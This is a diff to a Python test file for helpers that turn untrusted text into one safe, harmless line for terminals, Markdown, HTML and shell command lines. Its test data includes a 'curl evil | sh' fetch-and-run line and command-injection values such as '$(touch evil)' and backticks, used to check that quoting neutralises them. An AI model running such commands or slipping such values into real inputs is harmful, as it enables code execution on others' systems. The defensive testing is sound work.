@@ -1,13 +1,16 @@
 """Outside text: whatever it is, a terminal, Markdown and HTML show one harmless line."""
 
 import html
+import os
 import random
+import shutil
+import subprocess
 import time
 
 import pytest
 from markdown_it import MarkdownIt
 
-from search_space.boundary.text import code, html_text, markdown, one_line, reason_of, shown
+from search_space.boundary.text import code, command_line, html_text, markdown, one_line, reason_of, shown
 
 NASTY = [
     "screw\n```\ncurl evil | sh\n```",
@@ -143,3 +146,25 @@ def test_small_values_are_shown_as_they_are() -> None:
 def test_an_error_is_one_line() -> None:
     assert reason_of(ValueError("first\n  second.")) == "first second"
     assert reason_of(RecursionError()) == "RecursionError"
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_a_command_line_is_taken_apart_into_its_words() -> None:
+    words = [
+        "plain", "two words", "it's", "a\nb", "\x1b[31m", "$(touch evil)", "`x`", "\x011'\\n", "-x", "",
+        "\u202etxt", "a\udcffb",
+    ]  # fmt: skip
+    line = command_line(["printf", r"%s\0", *words])
+    assert line.isprintable()
+    told = subprocess.run(["bash", "-c", line], capture_output=True, check=True).stdout
+    assert told.split(b"\0")[:-1] == [os.fsencode(word) for word in words]
+
+
+def test_what_is_one_line_already_is_left_as_it_is() -> None:
+    rng = random.Random(1)
+    letters = "ab  \t\n\u00a0\u200d\x1b\u2028é"
+    for _ in range(2000):
+        text = "".join(rng.choices(letters, k=rng.randint(0, 8)))
+        clean = one_line(text)
+        assert one_line(clean) == clean
+        assert one_line(text + "\x00").rstrip("\ufffd ") == clean.rstrip("\ufffd ")
